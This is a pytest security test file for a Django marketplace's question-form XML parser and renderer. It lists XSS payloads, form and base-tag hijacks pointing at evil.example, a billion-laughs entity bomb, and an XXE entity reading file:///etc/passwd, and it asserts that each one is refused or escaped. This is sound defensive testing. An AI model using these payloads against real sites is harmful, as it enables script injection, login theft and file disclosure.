"""A requester is a stranger: nothing of a question runs on the marketplace's pages."""

import re
import time

import pytest
from django.template.loader import render_to_string

from marketplace.documents import MAX_BYTES, MAX_DEPTH, parse
from marketplace.errors import RequestError
from marketplace.forms import lay_out, read_question_form
from tests.marketplace.forms import GAME, HEAD, read, with_answer, with_content

SCRIPT = "<script>alert(1)</script>"
TEXTS = ("Title", "Text", "AltText", "DisplayName", "DefaultText", "ListItem")
BOMB = (
    '<!DOCTYPE q [<!ENTITY a "aaaaaaaaaa">'
    '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
)


def page(xml: str) -> str:
    return render_to_string(
        "marketplace/question_form.html", {"sheets": lay_out(read(xml))}
    )


def refused(xml: str) -> str:
    with pytest.raises(RequestError) as caught:
        read(xml)
    return caught.value.code.rpartition(".")[2]


@pytest.mark.parametrize("element", TEXTS)
def test_a_text_is_never_markup(element: str) -> None:
    xml = re.sub(
        f"<{element}>[^<]*<",
        f"<{element}><![CDATA[\"'>{SCRIPT}<img src=x onerror=alert(1)>]]><",
        GAME,
    )
    html = page(xml)
    assert xml != GAME
    assert "&lt;script&gt;" in html
    assert "<script>" not in html
    assert "<img src=x" not in html


@pytest.mark.parametrize("attribute", ["regex", "errorText"])
def test_a_pattern_does_not_leave_its_attribute(attribute: str) -> None:
    xml = re.sub(
        f'{attribute}="[^"]*"', f'{attribute}="&quot;&apos;&gt;{SCRIPT}"', GAME
    ).replace(SCRIPT, SCRIPT.replace("<", "&lt;"))
    html = page(xml)
    assert "<script>" not in html
    assert "&lt;script&gt;" in html


@pytest.mark.parametrize(
    "content",
    [
        SCRIPT,
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        '<p xmlns="http://www.w3.org/2000/svg"/>',
        '<b onclick="alert(1)">x</b>',
        '<p style="position:fixed">x</p>',
        "<style>body{display:none}</style>",
        '<link rel="stylesheet" href="https://evil.example/a.css"/>',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/"/>',
        '<base href="https://evil.example/"/>',
        '<iframe src="https://evil.example/"/>',
        '<object data="https://evil.example/"/>',
        '<form action="https://evil.example/"><input name="password"/></form>',
        '<input name="answer-0" value="forged"/>',
        '<textarea name="answer-0"/>',
        '<button formaction="https://evil.example/">x</button>',
        '<a href="javascript:alert(1)">x</a>',
        '<a href=" JavaScript:alert(1)">x</a>',
        '<a href="java&#10;script:alert(1)">x</a>',
        '<a href="https&#10;://x">x</a>',
        '<a href="data:text/html,x">x</a>',
        '<a href="/marketplace/sign-out/">x</a>',
        '<a href="//evil.example/">x</a>',
        '<area alt="x" href="vbscript:x"/>',
        '<img alt="x" src="javascript:alert(1)"/>',
        '<img alt="x" src="data:image/svg+xml,x"/>',
        '<img alt="x" src="/marketplace/sign-out/"/>',
        '<img alt="x" src="https://a.example/" onerror="alert(1)"/>',
        '<img alt="x" src="https://a.example/" srcset="https://b.example/"/>',
        '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
        "&LT;script&GT;",
        "</FormattedContent>x",
        "</FormattedContent><FormattedContent>",
        BOMB,
        "<b>" * (MAX_DEPTH + 1) + "</b>" * (MAX_DEPTH + 1),
        "<b>" * 4_000 + "</b>" * 4_000,
    ],
)
def test_formatted_content_can_not_carry_it(content: str) -> None:
    block = f"<FormattedContent><![CDATA[{content}]]></FormattedContent>"
    assert refused(with_content(block)) == "XHTMLParseError"


def test_formatted_content_takes_no_name_or_id_of_the_page() -> None:
    block = (
        '<FormattedContent><![CDATA[<a name="timer">x</a><map id="warning"'
        ' name="cookie"/>]]></FormattedContent>'
    )
    html = page(with_content(block))
    assert not re.search(r"""(id|name)=["']?(timer|warning|cookie)\b""", html)


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "data:image/svg+xml,x",
        "//evil.example/",
        "/marketplace/sign-out/",
        "https://",
        "https://[::1",
        "file:///etc/passwd",
        "https://a.example/a\u202eb",
    ],
)
def test_media_are_at_web_addresses_alone(url: str) -> None:
    xml = GAME.replace("http://tictactoe.example/01523/board.gif", url)
    assert refused(xml) == "InvalidParameterValue"


@pytest.mark.parametrize(
    "xml",
    [
        BOMB + GAME.replace("nextmove", "&c;"),
        '<!DOCTYPE q [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        + GAME.replace("nextmove", "&x;"),
        '<!DOCTYPE q SYSTEM "https://evil.example/q.dtd">' + GAME,
        "<a>" * 9_000 + "</a>" * 9_000,
        HEAD + "<a>" * 5_000,
        GAME.replace("nextmove", "\x00"),
        GAME.replace("nextmove", "\ud800"),
        GAME.replace("nextmove", "&#0;"),
        GAME[:-20],
        "",
    ],
)
def test_a_hostile_document_is_refused_at_once(xml: str) -> None:
    began = time.process_time()
    assert refused(xml) == "XMLParseError"
    assert time.process_time() - began < 2


def test_a_document_of_65536_bytes_is_too_long() -> None:
    longest = GAME.replace("nextmove", "nextmove" + "x" * (MAX_BYTES - len(GAME)))
    assert read(longest).questions
    # one character more, of two bytes
    assert refused(longest.replace("xx<", "\u00e9x<")) == "InvalidParameterValue"


def test_identifiers_are_no_names_of_fields() -> None:
    root = parse(
        with_answer("<FreeTextAnswer/>").replace(">q<", ">csrfmiddlewaretoken<"),
        parameter="Question",
    )
    html = render_to_string(
        "marketplace/question_form.html", {"sheets": lay_out(read_question_form(root))}
    )
    assert "csrfmiddlewaretoken" not in html
